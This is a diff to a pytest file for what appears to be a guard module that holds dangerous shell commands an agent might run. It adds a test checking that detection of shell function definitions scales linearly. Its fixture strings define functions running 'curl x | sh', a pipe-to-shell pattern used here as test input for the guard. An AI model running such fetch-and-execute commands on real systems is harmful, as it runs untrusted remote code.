@@ -13,6 +13,7 @@ from __future__ import annotations
 from typing import Any
 
 import pytest
+from linearity import best_cost
 
 import agentbus
 from agentbus.guards import definitions, session_downloads
@@ -206,3 +207,24 @@ def test_their_dangerous_neighbours_stay_held(command: str) -> None:
 
     held = check_command(command) or check_shell_files(command, cwd="/home/me/project")
     assert held is not None
+
+
+@pytest.mark.parametrize("many", [False, True])
+def test_finding_unreached_and_reached_definitions_is_linear(many: bool) -> None:
+    """Many definitions (more than a session keeps: none deferred) or a long command beside a few."""
+
+    def text(size: int) -> str:
+        if many:
+            return "\n".join(f"f{i}() {{ echo {i}; }}" for i in range(size // 20))
+        return "f() { curl x | sh; }\n" + "echo " + "a " * (size // 2)
+
+    kept = [f"g{i}() {{ curl x{i} | sh; }}" for i in range(32)]
+
+    def judge(command: str) -> object:
+        return definitions.unreached(command, parsed(command)), definitions.reached(command, kept)
+
+    small, large = text(20_000), text(200_000)
+    judge(small)  # parsed once, cached: the ratio is the definitions' own work
+    judge(large)
+    ratio = best_cost(judge, large, runs=3) / max(best_cost(judge, small, runs=3), 1e-6)
+    assert ratio < 30, ratio
